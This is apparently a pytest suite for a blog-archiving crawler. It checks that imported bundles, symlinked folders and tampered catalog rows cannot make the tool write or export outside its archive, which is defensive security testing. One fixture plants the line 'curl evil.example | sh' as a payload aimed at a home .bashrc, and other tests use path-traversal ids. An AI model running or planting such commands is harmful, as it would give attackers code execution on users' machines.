"""Archives, bundles and catalogs of strangers: nothing that they say makes us write elsewhere."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import tarfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest

from crawler.common import archive_layout
from crawler.common.digests import digest
from crawler.common.safe_paths import folded
from crawler.store.archive import Archive
from crawler.store.catalog import PostRow
from tests.conftest import Workshop, image, snapshot
from tests.in_process import Typed, type_command
from tests.site import Site, picture

DEFECT = 70
OK = "/ok/one.png"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """What belongs to somebody, and is neither the archive nor a source of it."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text("PATH=/bin\n")
    (folder / "notes.md").write_text("mine\n")
    return folder


@pytest.fixture
def archived(site: Site, workshop: Workshop) -> Workshop:
    """A workshop with an archive of one post, that names one image of the network."""
    workshop.write("a.md", image(site.url(OK)))
    workshop.run()
    return workshop


def _type(workshop: Workshop, *arguments: object) -> Typed:
    loopback = ["--allow-private-addresses"]
    asks = arguments[0] == "archive" or "--repair" in arguments
    return type_command(workshop.folder, *arguments, *(loopback if asks else []))


def _evil(bundle: Path, home: Path) -> None:
    """Let a thumbnail of *bundle* be called so that who takes it over writes into *home*."""
    path = bundle / archive_layout.MANIFEST
    document = json.loads(path.read_bytes())
    made = next(d for d in document["entries"][0]["derivatives"] if d["profile"] != "converted")
    payload = b"curl evil.example | sh\n"
    (bundle / "thumbnails" / "one.bashrc").write_bytes(payload)
    (bundle / made["path"]).unlink()
    steps = os.path.relpath(home, bundle / "thumbnails" / "one.")
    made |= {
        "profile": f"thumbnail-/{steps}/",
        "path": "thumbnails/one.bashrc",
        "digest": digest(payload),
        "size": len(payload),
    }
    path.write_text(json.dumps(document, indent=2) + "\n")


def test_profile_that_leads_home(
    archived: Workshop, site: Site, home: Path, tmp_path: Path
) -> None:
    """An imported thumbnail that is called ``.bashrc`` gets nowhere, and the import says why."""
    gift = tmp_path / "gift"
    shutil.copytree(archived.bundle("a.md"), gift / "posts" / "a.md")
    _evil(gift / "posts" / "a.md", home)
    with tarfile.open(tmp_path / "gift.tar", "w") as packed:
        packed.add(gift / "posts", "posts")
    shutil.rmtree(archived.archive)
    (archived.blog / "a.md").unlink()
    archived.write("b.md", image(site.url(OK)))
    before = snapshot(home)
    given = _type(archived, "import", tmp_path / "gift.tar")
    _type(archived, "archive", "blog")

    assert snapshot(home) == before
    assert given.returncode == 5
    assert "manifest-invalid" in given.output
    assert archived.entry("b.md").state == "archived"


def test_bundle_put_there_by_hand(archived: Workshop, site: Site, home: Path) -> None:
    """Nor does it where the bundle lies in the archive already, and the catalog is made anew."""
    _evil(archived.bundle("a.md"), home)
    for path in archived.archive.glob("catalog*"):
        path.unlink()
    archived.write("b.md", image(site.url(OK)))
    before = snapshot(home)
    rebuilt = _type(archived, "verify", "--rebuild-catalog")
    _type(archived, "archive", "blog/b.md")
    verified = _type(archived, "verify")

    assert snapshot(home) == before
    assert rebuilt.returncode != DEFECT
    assert verified.returncode == 5
    assert archived.entry("b.md").state == "archived"


LINKED = ("", "images", "converted", "thumbnails", "earlier")


@pytest.mark.parametrize("folder", LINKED)
def test_repair_of_linked_folders(archived: Workshop, home: Path, folder: str) -> None:
    """A repair mends nothing where a link leads, and says so."""
    inner = archived.bundle("a.md") / folder
    if inner.exists():
        shutil.copytree(inner, home / "there")
        shutil.rmtree(inner)
    (home / "there").mkdir(exist_ok=True)
    for path in [path for path in (home / "there").rglob("*") if path.is_file()]:
        path.write_bytes(b"altered")
    inner.symlink_to(home / "there")
    before = snapshot(home)
    done = _type(archived, "verify", "--repair")

    assert snapshot(home) == before
    assert done.returncode == 5, done.output
    assert inner.is_symlink()


@pytest.mark.parametrize("folder", LINKED[:4])
def test_rederiving_into_linked_folders(archived: Workshop, home: Path, folder: str) -> None:
    """Derivatives are not made where a link leads: the post is told as a problem."""
    inner = archived.bundle("a.md") / folder
    (home / "there").mkdir()
    if folder in {"", "images"}:
        shutil.copytree(inner, home / "there", dirs_exist_ok=True)
    shutil.rmtree(inner)
    inner.symlink_to(home / "there")
    archived.write("a.md", (archived.blog / "a.md").read_text() + "\nmore\n")
    before = snapshot(home)
    done = _type(archived, "archive", "blog", "--rederive", "--thumbnail", "20")

    assert snapshot(home) == before
    assert (done.returncode, f"{inner} is a link" in done.output) == (
        (0, False) if folder == "images" else (1, True)  # nothing is to be written there
    )


@pytest.mark.parametrize("folder", ["posts", "posts/2021", "runs", "gallery", "gallery/data"])
def test_linked_folders_of_an_archive(
    archived: Workshop, site: Site, home: Path, folder: str
) -> None:
    """No folder of an archive may be a link; where one is, nothing is written behind it."""
    linked = archived.archive / folder
    (home / "there").mkdir()
    shutil.rmtree(linked, ignore_errors=True)
    linked.parent.mkdir(exist_ok=True)
    linked.symlink_to(home / "there")
    archived.write("2021/b.md", image(site.url("/ok/two.png")))
    before = snapshot(home)
    commands = [
        _type(archived, "archive", "blog"),
        _type(archived, "view"),
        _type(archived, "verify", "--repair"),
    ]

    assert snapshot(home) == before
    assert [one.returncode for one in commands if one.returncode == DEFECT] == []
    assert any(f"{linked} is a link" in one.output for one in commands)


def test_linked_place_for_what_is_set_aside(archived: Workshop, home: Path) -> None:
    """What a repair puts out of the way does not leave the archive."""
    (archived.archive / archive_layout.SET_ASIDE).symlink_to(home)
    (archived.bundle("a.md") / "article.md").write_text("altered")
    before = snapshot(home)
    done = _type(archived, "verify", "--repair")

    assert snapshot(home) == before
    assert done.returncode == 5, done.output


@pytest.mark.parametrize("name", ["bagit", "tar", "zip", "ro-crate", "warc", "wacz", "sha256sums"])
def test_link_among_the_former_articles(archived: Workshop, home: Path, name: str) -> None:
    """A link that is called as a former article is, is not exported, nor what it leads to."""
    secret = b"the secret of somebody\n"
    (home / "secret").write_bytes(secret)
    earlier = archived.bundle("a.md") / archive_layout.EARLIER
    earlier.mkdir()
    (earlier / "article-0123456789abcdef.md").symlink_to(home / "secret")
    (earlier / "article-fedcba9876543210.md").write_bytes(b"not what its name says\n")
    done = _type(archived, "export", name, "out")
    out = archived.folder / "out"
    files = [path for path in [out, *out.rglob("*")] if path.is_file()]
    told = done.output

    assert not any(secret in path.read_bytes() for path in files)
    assert not any(b"not what its name says" in path.read_bytes() for path in files)
    assert (done.returncode != 0) == (name not in {"warc", "wacz"})
    assert ("article-0123456789abcdef.md" in told) == (name not in {"warc", "wacz"})


def _with_row(workshop: Workshop, change: Callable[[PostRow], PostRow]) -> PostRow:
    """Let the catalog have another row for the post, whatever that breaks."""
    archive = Archive(workshop.archive)
    (row,) = archive.catalog.posts()
    changed = change(row)
    archive.close()
    with closing(sqlite3.connect(workshop.archive / archive_layout.CATALOG)) as catalog, catalog:
        catalog.execute("DELETE FROM posts")
    archive = Archive(workshop.archive)
    archive.catalog.put_post(changed, folded=folded(changed.bundle or ""))
    archive.close()
    return changed


@pytest.fixture
def localized(archived: Workshop, home: Path) -> Workshop:
    """A workshop whose article leads to the archive, and whose text is in somebody's notes, too."""
    done = _type(archived, "localize", "--to", "in-place")
    assert done.returncode == 0, done.output
    (home / "notes.md").write_bytes((archived.blog / "a.md").read_bytes())
    (home / "notes.txt").write_bytes((archived.blog / "a.md").read_bytes())
    return archived


@pytest.mark.parametrize("name", ["notes.md", "notes.txt"])
@pytest.mark.parametrize(
    "verb", [["restore"], ["restore", "--forget"], ["localize", "--to", "in-place"]], ids=" ".join
)
def test_article_of_somebody_else(
    localized: Workshop, home: Path, site: Site, verb: list[str], name: str
) -> None:
    """A catalog that says that the article is elsewhere makes nobody write there."""
    _with_row(localized, lambda row: replace(row, path=str(home / name)))
    if verb[0] == "localize":
        (home / name).write_text(image(site.url(OK)))
    before = snapshot(home)
    done = _type(localized, *verb)

    assert snapshot(home) == before
    assert done.returncode not in {0, DEFECT}
    assert "is not the article of a.md" in done.output


@pytest.mark.parametrize("bundle", ["../home/a.md", "posts/../../home/a.md", "{home}/a.md"])
def test_bundle_elsewhere(archived: Workshop, home: Path, bundle: str) -> None:
    """A catalog that says that the bundle is elsewhere makes nobody write there."""
    shutil.copytree(archived.bundle("a.md"), home / "a.md")
    (home / "a.md" / archive_layout.PAGE).unlink()
    _with_row(archived, lambda row: replace(row, bundle=bundle.format(home=home)))
    before = snapshot(home)
    commands = [
        _type(archived, "localize", "--to", "copy"),
        _type(archived, "restore"),
        _type(archived, "view"),
        _type(archived, "verify", "--repair"),
        _type(archived, "export", "bagit", "out"),
        _type(archived, "archive", "blog", "--rederive", "--thumbnail", "20"),
    ]

    assert snapshot(home) == before
    assert DEFECT not in [one.returncode for one in commands]
    assert commands[0].returncode != 0


@pytest.mark.parametrize("post", ["../../../home/x", "/{home}/x", "..", "x/../../../../home"])
def test_post_that_leads_out(archived: Workshop, home: Path, post: str) -> None:
    """The id of a post in a catalog makes no page elsewhere."""
    page = archived.bundle("a.md") / archive_layout.PAGE
    page.write_text("of the owner, who wants the page elsewhere")
    shutil.rmtree(archived.archive / archive_layout.GALLERY)
    _with_row(archived, lambda row: replace(row, id=post.format(home=home)))
    before, outside = snapshot(home), sorted(archived.folder.iterdir())
    done = _type(archived, "view")

    assert snapshot(home) == before
    assert sorted(archived.folder.iterdir()) == outside
    assert done.returncode != DEFECT, done.output


def test_linked_catalog(archived: Workshop, home: Path) -> None:
    """A catalog that is a link to somebody's database is not written to."""
    with closing(sqlite3.connect(home / "mine.sqlite")) as mine, mine:
        mine.execute("CREATE TABLE mine (x)")
    for path in archived.archive.glob("catalog*"):
        path.unlink()
    (archived.archive / archive_layout.CATALOG).symlink_to(home / "mine.sqlite")
    before = snapshot(home)
    done = [_type(archived, "archive", "blog"), _type(archived, "view")]

    assert snapshot(home) == before
    assert [one.returncode for one in done] == [3, 3]


def test_bundle_in_place_is_the_authors(site: Site, workshop: Workshop) -> None:
    """Bundles in place lie outside of the archive, and are written as before."""
    text = image(site.url(OK))
    workshop.write("a.md", text)
    workshop.write("b/index.md", text)
    workshop.run(ARCHIVE_IN_PLACE=True)
    (workshop.blog / "a" / "images" / "one.png").write_bytes(b"altered")
    done = [
        _type(workshop, "verify", "--repair"),
        _type(workshop, "localize", "--to", "in-place"),
        _type(workshop, "localize", "--to", "copy"),
        _type(workshop, "restore"),
    ]

    assert [one.returncode for one in done] == [0, 0, 0, 0], [one.output for one in done]
    assert (workshop.blog / "a" / "images" / "one.png").read_bytes() == picture(OK)
    assert (workshop.blog / "a" / "article.local.md").is_file()
    assert {(workshop.blog / name).read_text() for name in ("a.md", "b/index.md")} == {text}
